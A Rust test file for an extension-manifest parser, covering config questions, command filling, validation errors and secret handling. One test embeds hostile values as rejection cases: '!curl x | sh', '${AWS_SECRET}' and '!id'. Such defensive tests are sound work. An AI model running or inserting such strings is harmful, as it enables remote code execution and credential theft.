//! The manifest's reading, questions and filling (manifest.rs).
use super::*;

const FILESYSTEM: &str = r#"{
  "manifest_version": "0.3",
  "name": "filesystem",
  "version": "1.2.0",
  "description": "Files",
  "author": {"name": "Someone"},
  "server": {
    "type": "node",
    "entry_point": "server/index.js",
    "mcp_config": {
      "command": "node",
      "args": ["${__dirname}/server/index.js", "--root=${HOME}", "${user_config.dirs}"],
      "env": {"TOKEN": "${user_config.token}", "SEP": "${/}"},
      "platform_overrides": {"win32": {"command": "node.exe"}}
    }
  },
  "user_config": {
    "dirs": {"type": "directory", "title": "Folders", "description": "Where", "multiple": true,
             "required": true, "default": ["${HOME}/Desktop"]},
    "token": {"type": "string", "title": "Token", "description": "A key", "sensitive": true},
    "depth": {"type": "number", "title": "Depth", "description": "How deep", "min": 1, "max": 5}
  },
  "compatibility": {"platforms": ["darwin", "linux", "win32"], "runtimes": {"node": ">=18"}}
}"#;

#[test]
fn a_manifest_asks_its_user_config_and_fills_its_command() {
    let manifest = Manifest::parse(FILESYSTEM).unwrap();
    let home = Path::new("/home/u");
    let questions = manifest.questions(home);
    let keys: Vec<&str> = questions.iter().map(|q| q.key.as_str()).collect();
    assert_eq!(
        keys,
        ["user_config:depth", "user_config:dirs", "user_config:token"]
    );
    assert!(questions[1].repeated && questions[1].required);
    assert_eq!(questions[1].default.as_deref(), Some("/home/u/Desktop"));
    assert!(questions[2].secret);

    let answers = BTreeMap::from([
        ("user_config:dirs".to_owned(), "/a\n/b c".to_owned()),
        ("user_config:token".to_owned(), "${MY_TOKEN}".to_owned()),
    ]);
    let values = manifest.values(&answers, home).unwrap();
    let filled = manifest.command(Path::new("/b/fs"), &values, home).unwrap();
    let (command, args, env) = (filled.command, filled.args, filled.env);
    let separator = std::path::MAIN_SEPARATOR.to_string();
    if platform() != "win32" {
        assert_eq!(command, "node");
    }
    assert_eq!(
        args,
        ["/b/fs/server/index.js", "--root=/home/u", "/a", "/b c"]
    );
    assert_eq!(env["TOKEN"], "${MY_TOKEN}");
    assert_eq!(env["SEP"], separator);

    // The default where nothing is answered; a number out of its range.
    let values = manifest.values(&BTreeMap::new(), home).unwrap();
    assert_eq!(values["dirs"], ["/home/u/Desktop"]);
    let bad = BTreeMap::from([("user_config:depth".to_owned(), "9".to_owned())]);
    assert!(manifest.values(&bad, home).unwrap_err()[0].contains("above"));
}

#[test]
fn every_broken_rule_is_named() {
    let e = Manifest::parse(
        r#"{"manifest_version": "0.9", "name": "", "version": "1", "description": "d",
            "author": {"name": "a"},
            "server": {"type": "uv", "entry_point": "x.py"},
            "user_config": {"k": {"type": "color", "title": "t", "description": "d"}},
            "compatibility": {"platforms": ["beos"]}}"#,
    )
    .unwrap_err();
    for part in [
        "0.9",
        "name is empty",
        "server.type \"uv\"",
        "color",
        "beos",
    ] {
        assert!(e.contains(part), "{part}: {e}");
    }
    // 0.4 knows uv, and runs it without an mcp_config.
    let uv = Manifest::parse(
        r#"{"manifest_version": "0.4", "name": "hello", "version": "1.0.0",
            "description": "d", "author": {"name": "a"},
            "server": {"type": "uv", "entry_point": "src/server.py"}}"#,
    )
    .unwrap();
    let filled = uv
        .command(Path::new("/b/h"), &BTreeMap::new(), Path::new("/h"))
        .unwrap();
    assert_eq!(filled.command, "uv");
    assert_eq!(filled.args, ["run", "--directory", "/b/h", "src/server.py"]);
    assert!(Manifest::parse("{}").is_err());
    assert!(Manifest::parse("[").is_err());
}

#[test]
fn the_authors_text_may_not_run_a_command_or_read_the_environment() {
    let with = |config: &str, options: &str| {
        Manifest::parse(&format!(
            r#"{{"manifest_version": "0.3", "name": "x", "version": "1", "description": "d",
                "author": {{"name": "a"}},
                "server": {{"type": "node", "entry_point": "i.js", "mcp_config": {config}}},
                "user_config": {{{options}}}}}"#
        ))
        .unwrap()
    };
    let home = Path::new("/h");
    let problems = |m: &Manifest| {
        let values = m.values(&BTreeMap::new(), home)?;
        m.command(Path::new("/b"), &values, home).map(|_| ())
    };
    let e = problems(&with(
        r#"{"command": "node", "env": {"A": "!curl x | sh"}}"#,
        "",
    ))
    .unwrap_err();
    assert!(e[0].contains("is a command"), "{e:?}");
    let e = problems(&with(
        r#"{"command": "node", "args": ["${AWS_SECRET}"]}"#,
        "",
    ))
    .unwrap_err();
    assert!(e[0].contains("none of its variables"), "{e:?}");
    let e = problems(&with(r#"{"command": "node", "env": {"A": "PATH"}}"#, "")).unwrap_err();
    assert!(
        e[0].contains("name of one of your environment variables"),
        "{e:?}"
    );
    let default = r#""k": {"type": "string", "title": "K", "description": "d", "default": "!id"}"#;
    let e = problems(&with(
        r#"{"command": "node", "env": {"A": "${user_config.k}"}}"#,
        default,
    ))
    .unwrap_err();
    assert!(
        e[0].contains("the default of user_config:k is a command"),
        "{e:?}"
    );
    // The user's own answer may be a reference.
    let m = with(
        r#"{"command": "node", "env": {"A": "${user_config.k}"}}"#,
        default,
    );
    let answers = BTreeMap::from([("user_config:k".to_owned(), "${MY_K}".to_owned())]);
    let values = m.values(&answers, home).unwrap();
    assert_eq!(
        m.command(Path::new("/b"), &values, home).unwrap().env["A"],
        "${MY_K}"
    );
    // A secret on the command line is warned of; a secret's value is never in a message.
    let secret =
        r#""n": {"type": "number", "title": "N", "description": "d", "sensitive": true, "max": 3}"#;
    let m = with(
        r#"{"command": "node", "args": ["--n", "${user_config.n}"]}"#,
        secret,
    );
    let bad = BTreeMap::from([("user_config:n".to_owned(), "31337".to_owned())]);
    let e = m.values(&bad, home).unwrap_err();
    assert!(
        !e[0].contains("31337") && e[0].contains("(hidden)"),
        "{e:?}"
    );
    let ok = BTreeMap::from([("user_config:n".to_owned(), "2".to_owned())]);
    let values = m.values(&ok, home).unwrap();
    let filled = m.command(Path::new("/b"), &values, home).unwrap();
    assert!(
        filled.warnings[0].contains("command line"),
        "{:?}",
        filled.warnings
    );
    // An empty list is no argument at all.
    let dirs = r#""d": {"type": "directory", "title": "D", "description": "d", "multiple": true}"#;
    let m = with(
        r#"{"command": "node", "args": ["i.js", "${user_config.d}"]}"#,
        dirs,
    );
    let empty = BTreeMap::from([("user_config:d".to_owned(), "\n".to_owned())]);
    let values = m.values(&empty, home).unwrap();
    assert_eq!(
        m.command(Path::new("/b"), &values, home).unwrap().args,
        ["i.js"]
    );
}

#[test]
fn filling_is_one_pass_and_leaves_unknown_names() {
    let vars = vec![
        ("A".to_owned(), vec!["${B}".to_owned()]),
        ("B".to_owned(), vec!["b".to_owned()]),
    ];
    assert_eq!(fill("x${A}y${C}z${", &vars), "x${B}y${C}z${");
}
